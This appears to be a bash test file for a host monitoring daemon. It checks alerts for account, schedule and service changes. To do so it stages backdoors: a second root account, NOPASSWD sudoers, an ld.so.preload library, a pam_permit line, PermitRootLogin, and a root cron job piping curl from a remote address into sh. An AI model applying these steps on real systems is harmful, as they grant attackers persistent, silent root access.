#!/bin/bash
# What is changed in accounts, schedules and services, entry by entry, and by whom. The real tools change the real paths: in the mount
# namespace of the test /etc, /home, /var/spool and the units are its own.
# seconds: 240
# shellcheck source=/dev/null
. "${LIB:?run it by tests/live/run}"

own /etc /home /var/spool /var/log /var/mail /usr/lib/systemd
mkdir -p /var/spool/cron/{crontabs,atjobs} /etc/cron.d /etc/cron.daily /etc/sudoers.d /etc/pam.d /etc/systemd/system/multi-user.target.wants \
    /home/alice/.ssh /home/alice/.config/systemd/user /etc/ssh/sshd_config.d
chmod 1777 /var/spool/cron/crontabs
rm -f /etc/ld.so.preload
useradd -M -d /home/alice -s /bin/sh -u 4001 alice || give_up "useradd"
printf '%s\n' '# sudoers' 'root ALL=(ALL:ALL) ALL' >/etc/sudoers
printf '%s\n' 'SHELL=/bin/sh' '17 * * * * root cd / && run-parts /etc/cron.hourly' >/etc/crontab
put "$PROG/changer" "$M/bin/changer"
for tool in sed chmod rm ln; do put "$(command -v $tool)" "$M/bin/$tool"; done	# of which each exec is asked about: they end before anybody could look what they were
C=$M/bin/changer OWN_MOUNTS=1 FILESYSTEMS=$M,/etc,/home,/var/spool,/usr/lib/systemd
policy facts <<END
[policy]
description = All that is changed

[rule account]
on = account
change.type|exists = true
action = alert

[rule schedule]
on = schedule
change.type|exists = true
action = alert

[rule service]
on = service
change.type|exists = true
action = alert

[rule tools]
on = exec
process.executable = $M/bin/*
action = log
END
start
is "status: files are heard of" "on on" "$(status sensors.files.state) $(status sensors.facts.state)"
number "and known" "$(status sensors.facts.files)" -gt 20
settled
is "what is there at the start is no news" 0 "$(alerts event.kind=alert)"

# told NAME COND...: there is a record in time, and it has the program that did it
told() {
	local name=$1 said
	shift
	if said=$(look wait "$ALERTS" 3 "$@" 2>&1 >/dev/null); then ok "$name"; else not_ok "$name" "a record with $*" "the last records: $said"; fi
}

useradd -m -s /bin/bash -u 4002 -c 'Bob B' bob
told "useradd: the account" rule.name=account event.action=account yett.change.type=added yett.change.object=user yett.change.entry=bob \
    'yett.change.after~uid=4002 .*home=/home/bob shell=/bin/bash' user.target.name=bob user.target.id=4002 process.executable=/usr/sbin/useradd \
    file.path=/etc/passwd event.category=iam
told "its password, which is none" yett.change.object=password yett.change.entry=bob 'yett.change.after~password=locked' \
    process.executable=/usr/sbin/useradd file.path=/etc/shadow
told "and its group" yett.change.object=group yett.change.entry=bob process.executable=/usr/sbin/useradd
usermod -s /bin/zsh bob
told "usermod: the shell, before and after" yett.change.type=changed yett.change.entry=bob yett.change.before=shell=/bin/bash \
    yett.change.after=shell=/bin/zsh process.executable=/usr/sbin/usermod
groupadd -g 4100 wheel
usermod -aG wheel bob
told "a member of a group" yett.change.object=member yett.change.type=added yett.change.entry=wheel user.target.name=bob \
    yett.change.after=user=bob process.executable=/usr/sbin/usermod
echo 'bob:Tr0ub4dor&3' | chpasswd
told "chpasswd: a password is set" yett.change.object=password yett.change.type=changed 'yett.change.before~password=locked' \
    'yett.change.after~password=set' user.target.name=bob user.target.id=4002 process.executable=/usr/sbin/chpasswd
echo 'bob:correct horse' | chpasswd
told "another one" yett.change.object=password yett.change.entry=bob 'yett.change.after~set \(another\)'
passwd -q -d bob
told "passwd -d: none is needed" yett.change.object=password yett.change.entry=bob 'yett.change.after~password=empty' process.executable=/usr/bin/passwd
settled
is "no hash is told, ever" 0 "$(grep -cE '\$(y|6|5|1|2[aby])\$' "$ALERTS")"
echo 'toor:x:0:0::/root:/bin/sh' >>/etc/passwd
told "a second root, appended by hand" yett.change.type=added yett.change.entry=toor user.target.id=0 process.executable=/usr/bin/bash
cp /etc/passwd /etc/passwd+ && "$C" rename /etc/passwd+ /etc/passwd
told "a rewrite that changes nothing" yett.change.type=rewritten yett.change.object=user "process.executable=$C" file.path=/etc/passwd
"$M/bin/sed" -i /toor/d /etc/passwd
told "sed -i: the entry is gone" yett.change.type=removed yett.change.entry=toor yett.change.object=user "process.executable=$M/bin/sed"
userdel bob
told "userdel" yett.change.type=removed yett.change.object=user yett.change.entry=bob process.executable=/usr/sbin/userdel
told "and its membership" yett.change.type=removed yett.change.object=member user.target.name=bob

echo 'alice ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/alice
told "sudoers" yett.change.object=sudoers yett.change.type=added yett.change.entry=alice 'yett.change.after~NOPASSWD: ALL' user.target.id=4001
key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice@home'
print='SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU'
echo "command=\"/bin/backup\",no-pty $key" >>/home/alice/.ssh/authorized_keys
told "a key, by its fingerprint" yett.change.object=authorized-key yett.change.type=added "yett.change.entry=$print" \
    'yett.change.after~type=ssh-ed25519 options=command="/bin/backup",no-pty comment=alice@home' user.target.name=alice user.target.id=4001
useradd -m -u 4003 carol
eventually 5 test -d /home/carol
mkdir /home/carol/.ssh
# shellcheck disable=SC2317 # called by name
carol_is_watched() { echo "$key" >/home/carol/.ssh/authorized_keys; sleep 0.1; [ "$(alerts user.target.name=carol yett.change.object=authorized-key)" -gt 0 ]; }
eventually 5 carol_is_watched && ok "keys of an account that is new" || not_ok "keys of an account that is new" "a record" "none"
echo /tmp/evil.so >/etc/ld.so.preload
told "ld.so.preload" yett.change.object=ld-preload yett.change.entry=/tmp/evil.so yett.change.type=added
: >/etc/ld.so.preload
told "emptied" yett.change.object=ld-preload yett.change.entry=/tmp/evil.so yett.change.type=removed
echo 'auth sufficient pam_permit.so' >>/etc/pam.d/common-auth
told "pam" yett.change.object=pam 'yett.change.entry=auth pam_permit.so' yett.change.after=control=sufficient file.path=/etc/pam.d/common-auth
echo 'PermitRootLogin yes' >>/etc/ssh/sshd_config
told "sshd" yett.change.object=sshd yett.change.entry=PermitRootLogin yett.change.after=yes

echo '*/5 * * * * root curl -s http://198.51.100.7/x | sh' >/etc/cron.d/update
told "cron: the command, when, and as whom" rule.name=schedule yett.change.object=cron 'yett.change.entry=curl -s http://198.51.100.7/x | sh' \
    'yett.change.after=schedule=*/5 * * * * user=root' user.target.name=root user.target.id=0
"$M/bin/rm" /etc/cron.d/update
told "it goes" yett.change.type=removed 'yett.change.entry~curl' file.path=/etc/cron.d/update "process.executable=$M/bin/rm"
echo '@reboot /home/alice/.x' >/var/spool/cron/crontabs/tmp.Xa1 && "$C" rename /var/spool/cron/crontabs/{tmp.Xa1,alice}
told "crontab(1) renames" yett.change.object=cron yett.change.entry=/home/alice/.x 'yett.change.after~schedule=@reboot' user.target.name=alice \
    "process.executable=$C"
printf '#!/bin/sh\ntrue\n' >/etc/cron.daily/job && "$M/bin/chmod" 755 /etc/cron.daily/job
told "a script that runs every day" yett.change.entry=job file.path=/etc/cron.daily/job yett.change.type=added
told "and when it may run" yett.change.entry=job yett.change.type=changed yett.change.after=executable=yes "process.executable=$M/bin/chmod"
printf '#!/bin/sh\n# atrun uid=4001 gid=4001\n# mail alice 0\numask 22\nHOME=/home/alice; export HOME\ncd /home/alice || {\n\t exit 1\n}\nid >/tmp/x\n' \
    >/var/spool/cron/atjobs/a0000101c8b5a1
told "at" yett.change.object=at 'yett.change.after~command=id >/tmp/x' user.target.id=4001

printf '[Unit]\nDescription=x\n[Service]\nUser=alice\nExecStart=/tmp/.x/run -d\nEnvironment=A=b API_TOKEN=abc123\n[Install]\nWantedBy=multi-user.target\n' \
    >/etc/systemd/system/x.service
told "a unit: what it starts" rule.name=service yett.change.object=unit yett.change.type=added yett.change.entry=ExecStart \
    'yett.change.after=/tmp/.x/run -d' file.path=/etc/systemd/system/x.service
told "itself" yett.change.entry=x.service yett.change.type=added
told "as whom" yett.change.entry=User yett.change.after=alice user.target.name=alice user.target.id=4001
told "with what, but for secrets" yett.change.entry=Environment 'yett.change.after=A=b API_TOKEN=(hidden)'
"$M/bin/ln" -s ../x.service /etc/systemd/system/multi-user.target.wants/x.service
told "enabled" yett.change.type=added 'yett.change.after~wanted-by=multi-user.target' "process.executable=$M/bin/ln"
"$M/bin/sed" -i 's|/tmp/.x/run -d|/bin/true|' /etc/systemd/system/x.service
told "changed: before and after" yett.change.type=changed yett.change.entry=ExecStart 'yett.change.before=/tmp/.x/run -d' \
    yett.change.after=/bin/true "process.executable=$M/bin/sed"
mkdir /etc/systemd/system/x.service.d
sleep 1
printf '[Service]\nExecStartPre=/dev/shm/p\n' >/etc/systemd/system/x.service.d/o.conf
told "a drop-in in a directory that is new" yett.change.entry=ExecStartPre yett.change.after=/dev/shm/p process.executable=/usr/bin/bash
printf '[Timer]\nOnCalendar=hourly\n' >/usr/lib/systemd/system/x.timer
told "a timer" rule.name=schedule yett.change.object=timer yett.change.entry=OnCalendar yett.change.after=hourly
"$M/bin/rm" /etc/systemd/system/x.service
told "a unit goes" yett.change.type=removed yett.change.entry=x.service "process.executable=$M/bin/rm"
printf '[Service]\nExecStart=/bin/u\n' >/home/alice/.config/systemd/user/u.service
told "a unit of a user" yett.change.entry=ExecStart yett.change.after=/bin/u user.target.name=alice

# Editors: the old one is moved away, the new one written, the old one removed.
mv /etc/crontab /etc/crontab~ && { cat /etc/crontab~; echo '1 1 * * * root edited'; } >/etc/crontab && rm /etc/crontab~
told "an editor that renames: only what it changed" yett.change.type=added yett.change.entry=edited file.path=/etc/crontab
settled
no_alert "nothing was gone for that" yett.change.type=removed file.path=/etc/crontab

# Who makes a directory and what is in it in one breath is known; and who never closes what he writes.
useradd -m -u 4004 dave
sleep 1
mkdir /home/dave/.ssh && echo "$key" >/home/dave/.ssh/authorized_keys
told "a key in a directory that is just made" yett.change.object=authorized-key user.target.name=dave process.executable=/usr/bin/bash
exec {HELD}>/etc/cron.d/held
echo '4 4 * * * root held' >&"$HELD"
told "a file that stays open" yett.change.entry=held process.executable=/usr/bin/bash
exec {HELD}>&-

# A watch that is new learns first.
before=$(alerts event.kind=alert)
other=$(pid_of watch)
kill -9 "$other"
other_pid watch "$other" 10 >/dev/null
# shellcheck disable=SC2317 # called by name
heard_again() { echo "$((++n)) 2 * * * root again" >/etc/cron.d/again; sleep 0.1; [ "$(alerts yett.change.entry=again)" -gt 0 ]; }
n=0
eventually 10 heard_again && ok "a new watch hears on" || not_ok "a new watch hears on" "a record" "none"
# A gate that dies may have read what it did not pass on: it is found all the same.
other=$(pid_of gate)
kill -STOP "$other"
echo '3 3 * * * root meanwhile' >/etc/cron.d/meanwhile
kill -9 "$other"
alert "what is changed while there is no gate is found" yett.change.entry=meanwhile
settled
is "nothing was missed" "0 0" "$(counter facts_missed) $(counter facts_unread)"

# More than is compared.
{ cat /etc/passwd; seq -f 'user-%.0f:x:4999:100:one of very many accounts:/nowhere:/bin/false' 5000 200000; } >/etc/passwd.big && mv /etc/passwd.big /etc/passwd
told "a passwd that is too large is told as a whole" yett.change.object=user 'yett.change.after~too large' file.path=/etc/passwd
stop
is "yettd ends well" 0 "$STATUS"
whole
finish
